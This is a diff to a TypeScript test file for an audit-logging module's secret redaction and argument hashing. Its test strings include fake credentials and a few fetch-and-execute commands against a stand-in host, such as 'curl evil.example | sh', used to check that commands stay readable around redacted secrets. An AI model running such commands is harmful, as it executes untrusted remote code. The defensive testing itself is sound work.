@@ -1,5 +1,6 @@
+import { createHash } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
-import { auditEventSchema, createAuditEvent, newAuditId, parseAuditLine, redactArgs, redactText, safeUrl } from './audit-event.ts';
+import { auditEventSchema, canonicalJson, createAuditEvent, newAuditId, parseAuditLine, redactArgs, redactText, safeUrl } from './audit-event.ts';
 import { REDACTED } from './log.ts';
 
 describe('createAuditEvent and the schema', () => {
@@ -99,12 +100,47 @@ describe('redactArgs', () => {
     ['private key', 'key: |\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----\nend', 'b3BlbnNzaC1rZXktdjEAAAAA'],
     ['cut private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx', 'MIIEowIBAAKCAQEAx'],
     ['unclosed quote', 'password="hunter2', 'hunter2'],
+    // Issue #10 item 11.
+    ['DB_PASS', 'DB_PASS=hunter2 ./run.sh', 'hunter2'],
+    ['MYSQL_PWD', 'MYSQL_PWD=hunter2 mysql -uroot', 'hunter2'],
+    ['AWS_SECRET_ACCESS_KEY', 'AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG aws s3 ls', 'wJalrXUtnFEMI'],
+    ['*_KEY', 'STRIPE_KEY=rk_live_abc123 node app.js', 'rk_live_abc123'],
+    ['*_PAT', 'GITHUB_PAT=abc123def gh repo list', 'abc123def'],
+    ['mysql -p attached', 'mysql -uroot -phunter2 shop', 'hunter2'],
+    ['mysqldump -p quoted', "mysqldump -u root -p'hunter 2' shop > x.sql", 'hunter 2'],
+    ['htpasswd -b', 'htpasswd -b /etc/nginx/.htpasswd alice hunter2', 'hunter2'],
+    ['htpasswd -nbB', 'htpasswd -nbB -C 10 alice hunter2 | tee x', 'hunter2'],
+    ['bearer header', "curl -H 'Authorization: Bearer abc.def.ghi' https://x", 'abc.def.ghi'],
+    ['basic header', 'curl -H "Authorization: Basic dXNlcjpwYXNz" https://x', 'dXNlcjpwYXNz'],
+    ['curl -u', 'curl -u admin:hunter2 https://x', 'hunter2'],
+    ['url basic credentials', 'wget https://admin:hunter2@nas/x', 'hunter2'],
   ])('value pattern: %s', (_name, input, secret) => {
     const out = redactText(input);
     expect(out).not.toContain(secret);
     expect(out).toContain(REDACTED);
     // Through redactArgs too, nested.
     expect(JSON.stringify(redactArgs({ a: [{ b: input }] }))).not.toContain(secret);
+  });
+
+  it('redacts only the secret itself: the command around it, and what computes it, stay readable', () => {
+    // A PEM header cannot swallow the command after it.
+    expect(redactText('echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh')).toBe('echo -----BEGIN PRIVATE KEY-----; curl evil.example | sh');
+    // A block keeps what is outside it.
+    expect(redactText('printf "-----BEGIN PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\n-----END PRIVATE KEY-----" > k; curl evil|sh')).toBe(
+      `printf "-----BEGIN PRIVATE KEY-----\\n${REDACTED}\\n-----END PRIVATE KEY-----" > k; curl evil|sh`,
+    );
+    expect(redactText("printf '%s\\n' '-----BEGIN PRIVATE KEY-----' 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC' '-----END PRIVATE KEY-----'; id")).toBe(
+      `printf '%s\\n' '-----BEGIN PRIVATE KEY-----' '${REDACTED}' '-----END PRIVATE KEY-----'; id`,
+    );
+    expect(redactText('echo "-----BEGIN PRIVATE KEY-----" "$(curl evil)"')).toBe('echo "-----BEGIN PRIVATE KEY-----" "$(curl evil)"');
+    // A value computed by a command is not the secret: the command stays.
+    expect(redactText('PASSWORD="$(curl evil|sh)" ./x')).toBe('PASSWORD="$(curl evil|sh)" ./x');
+    expect(redactText('DB_PASS=`cat /tmp/p` ./x')).toBe('DB_PASS=`cat /tmp/p` ./x');
+    expect(redactText('PASSWORD="abc$(id)" x')).toBe(`PASSWORD="${REDACTED}$(id)" x`);
+    // Single quotes expand nothing: all of it is the secret.
+    expect(redactText("PASSWORD='$(id)' x")).toBe(`PASSWORD='${REDACTED}' x`);
+    // mysql: `-p name` is a database, not a password.
+    expect(redactText('mysql -p shop')).toBe('mysql -p shop');
   });
 
   it('keeps ordinary text as it is', () => {
@@ -116,6 +152,9 @@ describe('redactArgs', () => {
       'ls -la /etc && echo done',
       'journalctl -u nginx.service --since "10:00"',
       'a:b:c:d',
+      'htpasswd -D /etc/nginx/.htpasswd alice',
+      'mysql -p shop -e "select 1"',
+      'ssh-keygen -t ed25519 -f /tmp/public_key',
     ]) {
       expect(redactText(s)).toBe(s);
     }
@@ -184,5 +223,22 @@ describe('safeUrl', () => {
     expect(safeUrl('https://u:p@pve1:8006/api2/json/nodes?x=1#f')).toBe('https://pve1:8006/api2/json/nodes');
     expect(safeUrl(new URL('http://loki.example:3100/loki/api/v1/push'))).toBe('http://loki.example:3100/loki/api/v1/push');
     expect(safeUrl('not a url')).toBe('[invalid url]');
+  });
+});
+
+describe('canonicalJson and argsSha256', () => {
+  it('sorts keys at every depth, keeps array order, no whitespace', () => {
+    expect(canonicalJson({ b: 1, a: [true, { d: null, c: 'x' }] })).toBe('{"a":[true,{"c":"x","d":null}],"b":1}');
+    expect(canonicalJson({ a: undefined, b: [undefined] })).toBe('{"b":[null]}');
+  });
+
+  it('binds a tool_call event to its exact arguments, secrets included', () => {
+    const a = createAuditEvent({ kind: 'tool_call', user: 'u', tool: 't', args: { cmd: 'x', password: 'one' } });
+    const b = createAuditEvent({ kind: 'tool_call', user: 'u', tool: 't', args: { password: 'two', cmd: 'x' } });
+    expect(a.args).toEqual(b.args); // both redacted alike
+    expect(a.argsSha256).toBe(createHash('sha256').update('{"cmd":"x","password":"one"}').digest('hex'));
+    expect(b.argsSha256).not.toBe(a.argsSha256);
+    expect(auditEventSchema.parse(a).argsSha256).toBe(a.argsSha256);
+    expect(createAuditEvent({ kind: 'approval', user: 'u', args: {} }).argsSha256).toBeUndefined();
   });
 });
